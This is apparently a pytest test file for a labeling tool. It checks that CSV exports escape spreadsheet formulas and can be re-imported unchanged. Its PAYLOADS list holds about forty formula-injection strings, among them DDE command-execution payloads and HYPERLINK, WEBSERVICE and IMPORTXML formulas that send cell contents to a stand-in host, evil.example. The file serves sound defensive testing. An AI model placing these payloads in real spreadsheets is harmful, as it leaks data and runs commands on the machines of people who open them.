"""A CSV file runs no formula in a spreadsheet, and is imported unchanged (S14)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest

from tandem.files.spreadsheet import escape_formula, unescape_formula, write_rows
from tests.cast import Line, campaign_of, exported, run, write_lines

PAYLOADS = (
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=1+1,=2+2",
    "=1\n=2",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-inf",
    "-nan",
    "+1_000",
    "-1,5",
    "-１",
    "--1",
    "- 1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\rcmd",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\"=1+1",
    "'=1+1",
    "\"'=1+1",
    "''+1+a",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " \"\ufeff＝cmd",
)  # fmt: skip
HARMLESS = ("", "x", "1=1", "a@b.example", "-1", "+1", "-1.5", "1e-5", "-1.5E+10", "'x", "007",
            "#N/A", "no - yes", "(=1)", "[-1]", "👩‍👩‍👧", "é=", "'", "''x")  # fmt: skip
# What Excel, Calc and Sheets read as the beginning of a formula after trimming a cell.
RUN = re.compile(r"[\s\"'`\ufeff\u200b-\u200d\u2060]*[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?", re.ASCII)


def is_run(cell: str) -> bool:
    """A leading apostrophe makes a cell text in each of these programs."""
    return not cell.startswith("'") and bool(RUN.match(cell)) and not NUMBER.fullmatch(cell)


def test_there_are_at_least_forty_payloads_and_each_would_run() -> None:
    assert len(set(PAYLOADS)) >= 40
    assert [text for text in PAYLOADS if not (is_run(text) or text[0] == "'")] == []


@pytest.mark.every_case
@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_is_escaped_and_restored(text: str) -> None:
    assert escape_formula(text) == f"'{text}"
    assert not is_run(escape_formula(text))
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.every_case
@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_are_not_escaped(text: str) -> None:
    assert escape_formula(text) == text
    assert unescape_formula(text) == text


def test_a_file_contains_no_formula_in_its_header_or_cells() -> None:
    rows = ({"=1": text, "score": -0.5, "n": -3} for text in PAYLOADS)
    text = "".join(write_rows(("=1", "score", "n"), rows))
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert not [cell for row in found for cell in row if is_run(cell)]
    assert found[0] == ["'=1", "score", "n"]
    assert {(row[1], row[2]) for row in found[1:]} == {("-0.5", "-3")}


@pytest.mark.usefixtures("batch")
def test_an_export_contains_no_formula_and_can_be_imported_unchanged(tmp_path: Path) -> None:
    campaign_of("key-point-verification")
    lines = [
        {"item": "k4", "unit": "k4", "variable": "grounded", "value": "no", "meta": {"=1": text},
         "rater": text, "spans": [{"text": text}]}
        for text in PAYLOADS
    ]  # fmt: skip
    run("import_labels", write_lines(tmp_path / "l.jsonl", lines), "--campaign", "c")
    kept = {line["rater"] for line in exported("c", "labels")}
    assert kept == set(PAYLOADS)
    for what in ("labels", "spans"):
        out = tmp_path / f"{what}.csv"
        run("export", "--campaign", "c", "--what", what, "--format", "csv", "--output", out)
        rows = rows_of(out)
        assert len(rows) > len(PAYLOADS)
        assert not [cell for row in rows for cell in row if is_run(cell)]
    said = run("import_labels", tmp_path / "labels.csv", "--campaign", "c")
    assert said == f"Nothing to do for {len(PAYLOADS)} labels: they exist already.\n"


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_lists_and_objects_are_json_that_no_spreadsheet_runs() -> None:
    row: Line = {"spans": [{"text": "=1"}], "meta": {"=1": "@x"}}
    columns: Any = ("spans", "meta")
    text = "".join(write_rows(columns, iter([row])))
    cells = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert cells == ['[{"text": "=1"}]', '{"=1": "@x"}']
